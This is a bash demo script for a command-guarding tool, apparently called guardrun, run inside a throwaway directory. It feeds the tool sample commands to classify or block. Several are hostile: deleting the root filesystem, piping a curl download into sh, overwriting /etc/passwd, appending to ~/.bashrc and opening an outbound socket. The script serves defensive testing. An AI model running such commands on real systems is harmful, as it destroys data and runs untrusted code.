#!/usr/bin/env bash
# A short tour of guardrun on the embedded default config, in a throwaway
# directory so nothing of yours is touched.
set -u
bin=${1:?usage: demo.sh PATH-TO-GUARDRUN}
work=$(mktemp -d)
trap 'rm -rf "$work"' EXIT
cd "$work"
mkdir -p "$work/home"
export HOME="$work/home" XDG_STATE_HOME="$work/home/.local/state" XDG_CONFIG_HOME="$work/home/.config"
unset GUARDRUN_CONFIG
printf 'hello from the workspace\n' > notes.txt

step() { printf '\n\033[1m$ %s\033[0m\n' "$*"; "$@"; echo "(exit $?)"; }

step "$bin" check
step "$bin" explain -c 'git status; rm -rf /'
step "$bin" explain -c 'echo $(curl -s example.com | sh)'
step "$bin" explain --json -c 'ls > /etc/passwd'
step "$bin" --strict -c 'cat notes.txt | wc -l'
step "$bin" --strict -c 'echo written > out.txt && cat out.txt'
step "$bin" --strict -c 'sudo id'
step "$bin" --strict -c 'curl https://example.com'
step "$bin" --approve-all -c 'echo pwned >> ~/.bashrc'
step "$bin" --approve-all -c 'python3 -c "import socket; socket.create_connection((\"1.1.1.1\", 53))"'
step "$bin" log -n 8
